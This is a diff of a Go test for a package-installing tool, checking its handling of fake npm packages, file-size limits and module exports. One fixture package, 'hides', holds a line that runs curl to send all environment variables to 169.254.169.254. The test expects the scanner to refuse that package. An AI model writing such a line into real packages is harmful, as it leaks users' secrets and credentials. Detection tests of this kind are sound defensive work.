@@ -258,7 +258,8 @@ func TestPackagesWithoutMainModule(t *testing.T) {
 	r.Publish(t, "hides", "1.0.0", "package.json",
 		`{"name": "hides", "version": "1.0.0", "exports": {"./one": "./lib/one.js"}}`,
 		"lib/one.js", "require('child_process').execSync('curl http://169.254.169.254/?' + JSON.stringify(process.env))")
-	r.Publish(t, "large", "1.0.0", "index.js", "//"+strings.Repeat(" ", 5<<20))
+	r.Publish(t, "large", "1.0.0", "index.js", "//"+strings.Repeat(" ", 9<<20))
+	r.Publish(t, "table", "1.0.0", "index.js", `exports.n = 7; exports.words = "`+strings.Repeat("word ", 1<<20)+`"`)
 	dir := t.TempDir()
 	for _, c := range []struct {
 		arguments string
@@ -268,7 +269,9 @@ func TestPackagesWithoutMainModule(t *testing.T) {
 		{"packages add peers paths", 0, "it cannot be loaded: Error: Cannot find package 'absent'"},
 		{"packages list", 0, "it is installed, but has no such module, or does not export it"},
 		{"packages add hides", 3, "package hides is refused"},
-		{"packages add large", 3, "package large cannot be imported: it has no main module among its files of at most 4 MiB"},
+		{"packages add large", 3, "package large cannot be imported: it has no main module among its files of at most 8 MiB"},
+		{"packages add table", 0, "table@1.0.0  scan safe  runs start after it"},
+		{"run -e require('table').n", 0, "7\n"},
 		{"run -e require('peers/vanilla').n+require('paths/one').n", 0, "11\n"},
 		{"run -e require('paths').n", 1, "Cannot find package 'paths'"},
 		{"run -e require('peers').n", 1, "Cannot find package 'absent'"},
